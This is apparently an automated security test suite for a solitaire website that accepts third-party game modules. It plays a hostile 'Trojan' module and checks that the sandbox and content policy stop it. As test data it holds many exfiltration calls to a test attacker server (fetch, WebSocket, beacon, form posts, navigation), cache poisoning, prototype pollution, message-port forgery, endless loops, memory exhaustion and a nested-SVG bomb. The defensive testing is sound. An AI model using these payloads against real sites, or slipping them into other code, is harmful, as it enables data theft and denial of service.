/** Attacks on the site by an added module and by an embedding page. The attacker's server records every request. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { sample } from '@patience/tooling/sample';
import type { Page } from 'playwright-core';
import { ForeignServer } from './foreign-server.js';
import { guestOf, dealt, Site, variants } from './site.js';

const site = new Site();
const attacker = ForeignServer.forTests();
const id = variants[0]!.id;
/** The page shared by all tests of this file, since installing the service worker takes long. */
let page: Page;

beforeAll(() => site.open());
afterAll(async () => {
  await site.leave();
  await site.close();
});
let here = false;
/** Opens a visitor without stored data, in browser processes of its own. */
async function openVisitor(): Promise<void> {
  await site.leave();
  const visitor = await site.visitor({ serviceWorkers: 'allow' });
  // Shorten the time limit of a sandbox as the test says, since some tests wait for endless loops.
  await visitor.addInitScript(() => {
    try {
      Object.assign(globalThis, { patienceSandboxSeconds: sessionStorage.getItem('limit') });
      // Fake the absence of user activation: whatever a test runs in a page counts as user activation in this browser.
      if (sessionStorage.getItem('untouched')) Object.defineProperty(navigator, 'userActivation', { value: { isActive: false } });
    } catch {
      // Ignore a sandbox, where reading the storage throws.
    }
  });
  page = await visitor.newPage();
  await page.goto('en/add/');
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
    while (!navigator.serviceWorker.controller) await new Promise((wake) => setTimeout(wake, 30));
  });
  here = true;
}
beforeEach(async () => {
  if (!here) await openVisitor();
  attacker.requests.length = 0;
});
afterEach(async ({ task }) => {
  if (task.result?.state === 'fail') [here] = [false, await site.leave()];
  site.faults.length = 0; // Clear the faults: the policies log every request that they block.
});

/** Returns the source of a table with two places. The parameters replace their rules for taking and accepting cards. */
const tableOf = (left = `take: 'top', accept: { empty: 'any' }`, right = `accept: { empty: 'any' }`): string => `[
    { id: 'l', role: 'tableau', at: [0, 0], ${left} },
    { id: 'r', role: 'foundation', at: [1, 0], ${right} },
  ]`;

/** Returns the source of a sound patience with one change. */
const sound = (change = '', top = ''): string => `${top}
const words = { name: 'Trojan', summary: 'One card, two places.', rules: 'The card goes to the right.' };
const variant = {
  api: 1, id: 'trojan', rules: 1, options: {},
  deck: () => ({ suits: ['S'], ranks: [1] }),
  table: () => ${tableOf()},
  deal: (table) => table.move('pack', 'l', { face: 'up' }),
  strings: { de: words, en: words },
  ${change}
};
export default variant;`;

/** Adds a module on the page for added games. @returns the message that the page shows */
async function addModule(text: string): Promise<string> {
  const address = attacker.put('/module.js', 'text/javascript', text);
  if (!page.url().endsWith('/en/add/')) await page.goto('en/add/');
  await page.getByLabel('Address of the module').fill(address);
  await page.getByLabel('I want to add').check();
  await page.getByRole('button', { name: 'Add', exact: true }).click();
  const status = page.locator('form [role=status]', {
    hasText: /“|This is|did not finish|There is|larger|fetched from|This browser|A part of/,
  });
  await status.waitFor();
  expect(attacker.requests.filter((path) => path !== '/module.js')).toEqual([]);
  expect(await page.locator('iframe').count()).toBe(0); // The sandbox of the trial is removed.
  return status.innerText();
}

/** Checks that the site is unchanged: its pages, its caches, its data. */
async function expectUnchanged(): Promise<void> {
  const caches = await page.evaluate(async () => (await globalThis.caches.keys()).map((name) => name.replace(/^(patience-site) .*/, '$1')));
  expect(caches.filter((name) => name !== 'patience-site')).toEqual([]);
  expect(await page.evaluate(() => Object.keys(localStorage).filter((key) => !key.startsWith('patience')))).toEqual([]);
}

async function remove(): Promise<void> {
  await page.goto('en/add/');
  await page.getByRole('button', { name: 'Remove Trojan' }).click();
  await page.getByText('“Trojan” was removed').waitFor();
}

/** Returns statements by which a module could send a request to a server, by name. */
const waysTo = (to: string): Record<string, string> => ({
  fetch: `fetch('${to}/fetch')`,
  'fetch that outlives it': `fetch('${to}/keepalive', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' })`,
  XHR: `(() => { const x = new XMLHttpRequest(); x.open('GET', '${to}/xhr'); x.send(); })()`,
  WebSocket: `new WebSocket('${to.replace('http', 'ws')}/socket')`,
  EventSource: `new EventSource('${to}/events')`,
  import: `import('${to}/import.js')`,
  importScripts: `importScripts('${to}/scripts.js')`,
  beacon: `navigator.sendBeacon('${to}/beacon', 'x')`,
  image: `new Image().src = '${to}/image.png'`,
  font: `new FontFace('f', 'url(${to}/font.woff2)').load()`,
  worker: `new Worker('${to}/worker.js')`,
  'worker of its own that fetches': `new Worker(URL.createObjectURL(new Blob(["fetch('${to}/nested')"])))`,
  'module worker': `new Worker(URL.createObjectURL(new Blob(["import '${to}/nested.js'"])), { type: 'module' })`,
  WebTransport: `new WebTransport('${to.replace('http', 'https')}/transport')`,
  navigation: `(location.href = '${to}/navigation')`,
  cache: `caches.open('patience-site').then((c) => c.put('/en/', new Response('mine')))`,
  database: `indexedDB.open('patience')`,
  'service worker': `navigator.serviceWorker.controller.postMessage({ ask: 'fetch', address: '${to}/asked' })`,
  storage: `localStorage.setItem('mine', '1')`,
  'its parents': `(parent.document.title = 'mine')`,
  channel: `new BroadcastChannel('patience').postMessage({ changed: ['games'] })`,
});

describe('a module in its trial', () => {
  test('the ways out that these tests try do reach the server where no policy blocks them', async () => {
    const { navigation: _, ...rest } = waysTo(attacker.address);
    const tries = Object.values(rest).map((way) => `try { Promise.resolve(${way}).catch(() => {}); } catch {}`);
    const own = await (await site.visitor()).newPage();
    await own.goto(attacker.put('/own.html', 'text/html', `<script>${tries.join('\n')}</script>`));
    const reached = 'fetch keepalive xhr socket events import.js beacon image.png font.woff2 worker.js nested'.split(' ');
    await expect.poll(() => attacker.requests).toEqual(expect.arrayContaining(reached.map((path) => `/${path}`)));
    await own.close();
  });

  test('a module reaches no network and no storage by any way, neither on import nor on dealing', async () => {
    const tries = Object.values(waysTo(attacker.address)).map((way) => `try { Promise.resolve(${way}).catch(() => {}); } catch {}`);
    const all = tries.join('\n');
    expect(await addModule(sound(`deal(table) { ${all} table.move('pack', 'l', { face: 'up' }); }`, all))).toContain(
      '“Trojan” is in the gallery now',
    );
    await remove();
    expect(attacker.requests.filter((path) => path !== '/module.js')).toEqual([]);
    await expectUnchanged();
  });

  test.each([
    [
      'a verdict of its own, by every port it can find',
      sound(
        '',
        `for (const name of ['postMessage']) { MessagePort.prototype[name] = function () {}; Worker; }
      self.postMessage({ ok: true, facts: { id: 'trojan' } }); globalThis.parent?.postMessage?.({ ok: true }, '*');`,
      ),
      /“Trojan” is in the gallery now/,
    ],
    [
      'a verdict instead of a patience',
      `self.postMessage({ ok: true, facts: { id: 'x', names: {}, summaries: {}, packs: 1 }, picture: '' }); export default 1;`,
      /not a patience|is missing/,
    ],
    [
      'a summary of thirty million signs',
      sound(`strings: { de: { ...words, summary: 'x'.repeat(3e7) }, en: words },`),
      /its summary is missing, too long/,
    ],
    [
      'a name of thirty million signs',
      sound(`strings: { de: { ...words, name: 'x'.repeat(3e7) }, en: words },`),
      /its name is missing, too long/,
    ],
    ['a deck of a million packs', sound(`deck: () => ({ suits: ['S'], ranks: [1], copies: 1e6 }),`), /not a patience|did not finish/],
    ['facts out of range', sound(`about: { minutes: 1e300, skill: -1 },`), /its about\.\w+ is missing, too long or out of range/],
    ['an id that is a path', sound(`id: '../../sw',`), /not a patience/],
    ['an id of every object', sound(`id: '__proto__',`), /not a patience/],
    [
      'prototypes of everything',
      sound(
        '',
        `Object.prototype.ok = true; Object.prototype.facts = { id: 'sw' }; Array.prototype.map = () => []; Promise.prototype.then = () => {}; JSON.stringify = () => '';`,
      ),
      /“|not a patience|did not finish/,
    ],
    [
      'something thrown whose words throw',
      sound(`deal() { throw { toString() { throw new Error('again'); }, get message() { throw 1; } }; },`),
      /This is not a patience/,
    ],
    [
      'an error whose message is thirty million signs',
      sound(`deal() { throw new Error('x'.repeat(3e7)); },`),
      /This is not a patience.{1,400}$/,
    ],
    ['an end of its worker', sound('', 'self.close();'), /did not finish|“Trojan”/],
    ['a loop without an end when it is loaded', 'for (;;);', /did not finish/],
    ['a loop without an end in its table', sound(`table: () => { for (;;); },`), /did not finish/],
    ['a promise that never ends', 'await new Promise(() => {}); export default 1;', /did not finish/],
  ])('a module that brings %s leaves the page usable and unharmed', async (_name, text, said) => {
    // Use the short limit only for modules that never finish.
    const limit = said.source.includes('did not finish') ? 1 : 5;
    if (!page.url().endsWith('/en/add/')) await page.goto('en/add/');
    await page.evaluate((seconds) => Object.assign(globalThis, { patienceSandboxSeconds: seconds }), limit);
    const words = await addModule(text);
    expect(words).toMatch(said);
    expect(words.length).toBeLessThan(500);
    if (words.includes('in the gallery now'))
      await page
        .getByRole('button', { name: /^Remove / })
        .first()
        .click();
    await page.locator('.own li').waitFor({ state: 'detached' });
    await expectUnchanged();
  });

  test('an added module is played as it was tried, whatever its server sends later', async () => {
    await addModule(sound());
    attacker.put('/module.js', 'text/javascript', 'throw new Error("changed")');
    await page.goto('en/play/?variant=trojan');
    await dealt(guestOf(page));
    expect(attacker.requests).toEqual(['/module.js']);
    await remove();
  });
});

describe('a module on the table', () => {
  const inGuest = (code: string): string => `if (typeof document !== 'undefined') { ${code} }`;

  /** Puts a module on the table without a trial of its own: the trial, which another module passed, runs in a worker without a document. */
  async function play(text: string, seconds = 5): Promise<void> {
    await page.goto('en/add/');
    await page.evaluate(async (source) => {
      const db = await new Promise<IDBDatabase>(
        (done) => (indexedDB.open('patience').onsuccess = ({ target }) => done((target as IDBOpenDBRequest).result)),
      );
      const words = { de: 'Trojan', en: 'Trojan' };
      const facts = { id: 'trojan', from: 'https://a.example/', names: words, summaries: words, packs: 1, added: true };
      const change = db.transaction('added', 'readwrite');
      change.objectStore('added').put({ id: 'trojan', from: 'https://a.example/', source, facts, picture: '', added: 1 });
      await new Promise((done) => (change.oncomplete = done));
      db.close();
    }, text);
    await page.evaluate((limit) => {
      sessionStorage.setItem('limit', String(limit));
      sessionStorage.setItem('untouched', 'true');
    }, seconds);
    await page.goto('en/play/?variant=trojan');
  }

  /** Checks that the page responds, kept its data, and can remove the added game. */
  async function expectUsable(): Promise<void> {
    expect(attacker.requests).toEqual([]);
    expect(await page.title()).toMatch(/Patience|Trojan/);
    await page.getByRole('link', { name: 'Patience' }).first().focus();
    await expectUnchanged();
  }

  const stopped = /stopped responding|cannot be played/;
  const ended = async (): Promise<void> => {
    await page.locator('.notice', { hasText: stopped }).waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
  };

  test('a module reaches no network, storage or page by any way, on import, on dealing and on questions of the table', async () => {
    const to = attacker.address;
    const frame = `const f = document.createElement('iframe'); f.srcdoc = ${JSON.stringify(`<script>new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).createDataChannel('x'); parent.postMessage('ran', '*')</script>`)}; document.body.append(f)`;
    const element = (tag: string, more: string): string => `document.head.append(Object.assign(document.createElement('${tag}'), ${more}))`;
    const more: Record<string, string> = {
      stylesheet: element('link', `{ rel: 'stylesheet', href: '${to}/style.css' }`),
      prefetch: element('link', `{ rel: 'prefetch', href: '${to}/prefetch' }`),
      preload: element('link', `{ rel: 'preload', as: 'image', href: '${to}/preload' }`),
      prerender: element('script', `{ type: 'speculationrules', textContent: '{"prefetch":[{"urls":["${to}/speculation"]}]}' }`),
      script: element('script', `{ src: '${to}/script.js' }`),
      inline: element('script', `{ textContent: "fetch('${to}/inline')" }`),
      frame: element('iframe', `{ src: '${to}/frame' }`),
      'frame of its own': frame,
      object: element('object', `{ data: '${to}/object' }`),
      video: element('video', `{ src: '${to}/video', autoplay: true }`),
      form: `(() => { const f = Object.assign(document.createElement('form'), { action: '${to}/form', method: 'post' }); document.body.append(f); f.submit(); })()`,
      window: `open('${to}/window')`,
      top: `(top.location = '${to}/top')`,
      'top title': `(top.document.title = 'mine')`,
      'its frame': `(parent.document.title = 'mine')`,
      cookie: `(document.cookie = 'mine=1')`,
      RTC: `new RTCPeerConnection()`,
    };
    const { navigation: _, ...others } = waysTo(to);
    const tries = Object.entries({ ...others, ...more }).map(
      ([name, way]) =>
        `try { Promise.resolve(${way.startsWith('const') ? `(() => { ${way} })()` : way}).then(() => 0, () => told('${name}')); } catch { told('${name}'); }`,
    );
    const all = `const told = (name) => (document.title += name + ' '); addEventListener('message', ({ data }) => data === 'ran' && told('RAN')); ${tries.join('\n')}`;
    await play(sound(`deal(table) { ${inGuest(all)} table.move('pack', 'l', { face: 'up' }); }`, inGuest(all)));
    await dealt(guestOf(page));
    const title = await guestOf(page)
      .locator('html')
      .evaluate(() => document.title);
    for (const name of ['fetch', 'import', 'top title', 'its frame', 'storage', 'cookie', 'RTC']) expect(title).toContain(name);
    expect(title).not.toContain('RAN');
    await expectUsable();
    // A module that navigates its own frame away leaves no game to play, and its requests still do not arrive.
    const ping = `(() => { const a = Object.assign(document.createElement('a'), { href: '#', ping: '${to}/ping' }); document.body.append(a); a.click(); })()`;
    await play(sound('', inGuest(`${ping}; location.href = '${to}/navigation';`)), 1);
    await ended();
    await expectUsable();
  });

  const LOOP = inGuest('for (;;);');
  const turn = (when: string, run: string): string =>
    `actions: { turn: { on: 'l', when() { ${when} return true; }, run(table) { ${run} table.move('l', 'r'); } } },`;

  /** The functions of a variant that are called before the first move, each with an endless loop. */
  const AT_FIRST: Readonly<Record<string, string>> = {
    options: `get options() { ${LOOP} return {}; },`,
    valid: `valid() { ${LOOP} return true; },`,
    deck: `deck() { ${LOOP} return { suits: ['S'], ranks: [1] }; },`,
    numbered: `numbered() { ${LOOP} return undefined; },`,
    table: `table() { ${LOOP} return ${tableOf()}; },`,
    deal: `deal(table) { ${LOOP} table.move('pack', 'l', { face: 'up' }); },`,
    after: `after() { ${LOOP} },`,
    status: `status() { ${LOOP} return 'playing'; },`,
    score: `score() { ${LOOP} return 0; },`,
    'an action’s when': turn(LOOP, ''),
  };
  test.each(sample(Object.keys(AT_FIRST), 6))('an endless loop in %s is stopped, and the page stays usable', async (name) => {
    await play(sound(AT_FIRST[name]), 0.7);
    await ended();
    expect(attacker.requests).toEqual([]);
  });

  /** The functions of a variant that are called when a card is touched, each with an endless loop. */
  const TOUCHED: Readonly<Record<string, string>> = {
    rank: `rank() { ${LOOP} return 0; },`,
    take: `table: () => ${tableOf(`take: () => { ${LOOP} return 1; }`)},`,
    accept: `table: () => ${tableOf(undefined, `accept: () => { ${LOOP} return true; }`)},`,
    'an action’s run': `table: () => ${tableOf('accept: []')}, ${turn('', LOOP)}`,
  };
  test.each(sample(Object.keys(TOUCHED), 1))('an endless loop in %s after a touch is stopped, and the page stays usable', async (name) => {
    await play(sound(TOUCHED[name]), 0.7);
    const card = guestOf(page).locator('patience-game [part~=card]');
    const met = await Promise.race([card.waitFor().then(() => true), ended().then(() => false)]);
    // Do not wait for the click: the browser confirms it only after the page handled it, and the page hangs by then.
    if (met) card.click().catch(() => undefined);
    await ended();
    expect(attacker.requests).toEqual([]);
  });

  test('a module that fills the memory is stopped, and the page stays usable', async () => {
    await play(sound('', inGuest(`const hog = []; for (;;) hog.push(new ArrayBuffer(1e6), 'x'.repeat(3e5) + hog.length);`)), 0.7);
    await ended();
    await expectUsable();
  });

  /** Returns a module that attacks the message port of its table. */
  const port = (say: string): string =>
    inGuest(
      `const { parse, stringify } = JSON; const send = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (message) { if (typeof message !== 'string') return send.call(this, message); message = JSON.parse(message); const say = (m) => send.call(this, JSON.stringify(m)); ${say} };`,
    );

  test.each([
    ['never answers', port('')],
    ['answers later than anybody waits', port(`setTimeout(() => say(message), 3000);`)],
    ['says ten thousand things at once', port(`for (let i = 0; i < 1e4; i++) say(message);`)],
    ['says it is broken in thirty million signs', port(`say({ is: 'broken', why: 'x'.repeat(3e7) });`)],
    [
      'sends a save of thirty million signs',
      port(
        `say(message.is === 'answer' ? { ...message, state: { ...message.state, save: { ...message.state.save, gestures: [['x'.repeat(3e7)]] } } } : message);`,
      ),
    ],
    [
      'sends the save of another game',
      port(
        `say(message.is === 'answer' ? { ...message, state: { ...message.state, save: { ...message.state.save, variant: 'sw' } } } : message);`,
      ),
    ],
    [
      'calls its options thirty million signs',
      port(
        `say(message.is === 'open' ? { ...message, variant: { ...message.variant, strings: { de: 'x'.repeat(3e7), en: 1 } } } : message);`,
      ),
    ],
  ])('a module that %s is stopped, and the page stays usable', async (_name, text) => {
    await play(sound('', text), 0.7);
    await ended();
    expect(attacker.requests).toEqual([]);
  });

  test.each([
    ['everything three times', port(`for (let i = 0; i < 3; i++) say(message);`)],
    [
      'answers to questions that nobody asked, and messages in any order',
      port(
        `say({ is: 'answer', n: 99, ok: true }); say({ is: 'event', event: 'patience-won' }); say({ is: 'open' }); say(null); say([]); say({ is: 'constructor' }); say(message);`,
      ),
    ],
    [
      'prototypes of everything',
      port(
        `const evil = JSON.parse('{"__proto__":{"ok":true},"constructor":{"prototype":{"mine":1}}}'); say({ ...message, ...evil, is: 'menu', settings: evil }); say(Object.assign(message, { __proto__: { mine: 1 } }));`,
      ),
    ],
    [
      'wishes and wins that no hand asked for',
      port(
        `say(message); if (message.is === 'answer' && message.state) { const { state } = message; for (const what of [{ is: 'deal' }, { is: 'sheet', sheet: 'deal' }, { is: 'escape' }, { is: 'event', event: 'patience-hint', gesture: [], state }]) say(what); say({ is: 'menu', settings: { fourColors: true, largeIndex: true, highContrast: true, leftHanded: true, outlook: true } }); say({ is: 'event', event: 'patience-ready', gesture: [], state: { ...state, save: { ...state.save, seed: 'mine' } } }); }`,
      ),
    ],
  ])('a module that sends %s can still be played and changes nothing', async (_name, text) => {
    await openVisitor(); // Open a fresh visitor: the processes of earlier games may still run their endless loops.
    await play(sound('', text));
    await dealt(guestOf(page));
    await expect.poll(() => page.locator('#deal').innerText()).toMatch(/^Deal \d+/);
    expect(await page.locator('dialog[open]').count()).toBe(0);
    expect(page.url()).not.toContain('mine');
    expect(
      await page.evaluate(() => [
        ({} as { mine?: unknown }).mine,
        ({} as { ok?: unknown }).ok,
        document.documentElement.dataset['contrast'],
        localStorage.getItem('patience.settings')?.includes('"fourColours":true') ?? false,
      ]),
    ).toEqual([undefined, undefined, undefined, false]);
    expect(attacker.requests).toEqual([]);
  });

  test('a module opens one dialog of the site at most, however often it requests one', async () => {
    await openVisitor();
    await play(
      sound(
        '',
        port(
          `say(message); if (message.is === 'answer' && message.state && !self.asked) { self.asked = true; setInterval(() => { for (let i = 0; i < 5; i++) { say({ is: 'sheet', sheet: 'deal' }); document.title = (Number(document.title) || 0) + 1; } }, 200); }`,
        ),
      ),
    );
    await page.evaluate(() => sessionStorage.removeItem('untouched'));
    await page.reload();
    await dealt(guestOf(page));
    const asked = (): Promise<number> =>
      guestOf(page)
        .locator('html')
        .evaluate(() => Number(document.title) || 0);
    for (let times = 0; times < 2; times++) {
      await page.locator('dialog[open]').first().waitFor();
      const before = await asked();
      await expect.poll(asked).toBeGreaterThan(before + 10);
      expect(await page.locator('dialog').count()).toBe(1);
      await page.keyboard.press('Escape');
    }
    expect(attacker.requests).toEqual([]);
  });

  test('a module that takes the keyboard from a dialog of the site is removed, with a notice', async () => {
    await openVisitor();
    await play(sound('', inGuest(`setInterval(() => { window.focus(); document.querySelector('patience-game')?.focus(); }, 50);`)));
    await dealt(guestOf(page));
    await page.getByRole('button', { name: 'Share', exact: true }).click();
    await page.locator('.notice', { hasText: 'it took the keyboard' }).waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
    await page.keyboard.press('Escape');
    expect(attacker.requests).toEqual([]);
  });

  test('a forged picture costs little or is not drawn in the gallery and on the daily page', async () => {
    const levels = Array.from({ length: 30 }, (_, n) => `<g id="l${n + 1}">${`<use href="#l${n}"/>`.repeat(10)}</g>`).join('');
    const bomb = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><defs><rect id="l0" width="9" height="9"/>${levels}</defs><use href="#l30"/></svg>`;
    await page.goto('en/add/');
    await page.evaluate(async (picture) => {
      const db = await new Promise<IDBDatabase>(
        (done) => (indexedDB.open('patience').onsuccess = ({ target }) => done((target as IDBOpenDBRequest).result)),
      );
      const words = { de: 'Trojan', en: 'Trojan' };
      const facts = { id: 'trojan', from: 'https://a.example/', names: words, summaries: words, packs: 1, added: true };
      const change = db.transaction('added', 'readwrite');
      change.objectStore('added').put({ id: 'trojan', from: 'https://a.example/', source: 'x', facts, picture, added: 1 });
      await new Promise((done) => (change.oncomplete = done));
      db.close();
    }, bomb);
    await page.goto('en/games/');
    const image = page.locator('.tile[data-id="trojan"] img');
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.src.length)).toBeGreaterThan(10);
    expect(await image.evaluate((img: HTMLImageElement) => decodeURIComponent(img.src))).not.toContain('#l');
    await page.goto('en/daily/?variant=trojan');
    expect(
      await page
        .locator('main img')
        .evaluateAll((all: HTMLImageElement[]) => all.some(({ src }) => decodeURIComponent(src).includes('#l'))),
    ).toBe(false);
  });

  test('the games of an added module are counted apart from the others, and can be deleted', async () => {
    await remove();
    await expectUnchanged();
    await page.goto('en/games/');
    expect(await page.content()).not.toContain('rojan');
    expect(await page.locator('.tile').count()).toBeGreaterThanOrEqual(variants.length);
  });
});

describe('the site', () => {
  test('the site serves nothing that a stranger put into its cache', async () => {
    await page.evaluate(async () => {
      const name = (await caches.keys()).find((one) => one.startsWith('patience-site'))!;
      const poison = (): Response => new Response('<title>mine</title>', { headers: { 'Content-Type': 'text/html' } });
      const cache = await caches.open(name);
      for (const path of ['index.html', 'en/index.html', 'en/never/index.html', 'en/', 'never.html'])
        await cache.put(
          new URL(
            path,
            document.documentElement.dataset['root'] === undefined
              ? location.href
              : new URL(document.documentElement.dataset['root'], location.href),
          ),
          poison(),
        );
      await (await caches.open('mine')).put('/en/', poison());
    });
    await page.goto('en/');
    await dealt(page);
    expect(await page.title()).not.toContain('mine');
    for (const path of ['en/never/', 'never.html']) expect((await page.goto(path))!.status()).toBe(404);
    await page.evaluate(() => caches.delete('mine'));
  });

  test('the site sends its policy with pages, scripts and workers, from the server and from the service worker', async () => {
    const script = await page.goto(`en/play/${id}/?seed=3`).then(() => page.locator('script[type=module]').getAttribute('src'));
    await dealt(page);
    const address = new URL(script!, page.url()).href;
    const policies = [
      (await page.request.get(address)).headers()['content-security-policy'],
      await page.evaluate(async (from) => (await fetch(from)).headers.get('Content-Security-Policy'), address),
      await page.evaluate(async () => (await fetch(location.href)).headers.get('Content-Security-Policy')),
    ];
    for (const policy of policies) expect(policy).toMatch(/default-src 'none'.*connect-src 'self'.*frame-ancestors 'none'/);
    const [worker] = await Promise.all([
      page.waitForEvent('worker'),
      page.locator('patience-game').evaluate(async (element: HTMLElement & { hint(): Promise<unknown>; adviser?: unknown }) => {
        while (!element.adviser) await new Promise((wake) => setTimeout(wake, 20));
        await element.hint();
      }),
    ]);
    // Pass the function as a text: the compiler of the tests would rewrite its import.
    const tried = await worker.evaluate<string[]>(`(async () => {
      const outcome = (way) => way.then(() => 'reached', () => 'refused');
      return [await outcome(fetch('${attacker.address}/worker')), await outcome(import('${attacker.address}/worker.js'))];
    })()`);
    expect(tried).toEqual(['refused', 'refused']);
    expect(attacker.requests).toEqual([]);
  });

  test('the service worker fetches from other origins only for the pages that add games', async () => {
    const ask = (): Promise<string> =>
      page.evaluate((address) => {
        const { port1, port2 } = new MessageChannel();
        navigator.serviceWorker.controller!.postMessage({ ask: 'fetch', address }, [port2]);
        return Promise.race([
          new Promise<string>((done) => (port1.onmessage = () => done('answered'))),
          fetch(location.href)
            .then(() => fetch(location.href))
            .then(() => 'silent'), // A service worker that does not answer within this time has ignored the message.
        ]);
      }, `${attacker.address}/asked`);
    for (const path of ['en/', 'en/games/', `en/play/${id}/`, 'en/watch/']) {
      await page.goto(path);
      expect(await ask()).toBe('silent');
    }
    expect(attacker.requests).toEqual([]);
  });

  test('the site can be framed on its embed page, and nowhere else', async () => {
    for (const [path, shown] of [
      [`embed/?variant=${id}`, true],
      ['en/', false],
      ['en/settings/', false],
      ['sandbox/', false],
    ] as const) {
      const own = await (await site.visitor()).newPage();
      await own.goto(attacker.put('/framing.html', 'text/html', `<iframe src="${site.address}${path}"></iframe>`));
      const [, frame] = own.frames();
      expect([path, frame!.url().startsWith(site.address)]).toEqual([path, shown]);
    }
  });

  test('the site deletes everything on request, whoever stored it', async () => {
    await page.goto(`en/play/${id}/?seed=3`);
    await dealt(page);
    await page.evaluate(async () => {
      await (await caches.open('mine')).put('/x', new Response('x'));
      localStorage.setItem('mine', 'x');
      sessionStorage.setItem('mine', 'x');
      await new Promise((done) => (indexedDB.open('mine').onsuccess = ({ target }) => done((target as IDBOpenDBRequest).result.close())));
    });
    await page.goto('en/settings/');
    await page.getByRole('button', { name: 'Delete everything' }).click();
    await page.getByRole('button', { name: 'Yes, delete' }).click();
    await page.getByText('deleted', { exact: false }).last().waitFor();
    const left = await page.evaluate(async () => ({
      caches: await caches.keys(),
      storage: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
      databases: (await indexedDB.databases()).map(({ name }) => name).filter((name) => name !== 'patience'),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
    }));
    expect(left).toEqual({ caches: [], storage: [], databases: [], workers: 0 });
    here = false;
    await site.leave();
  });
});
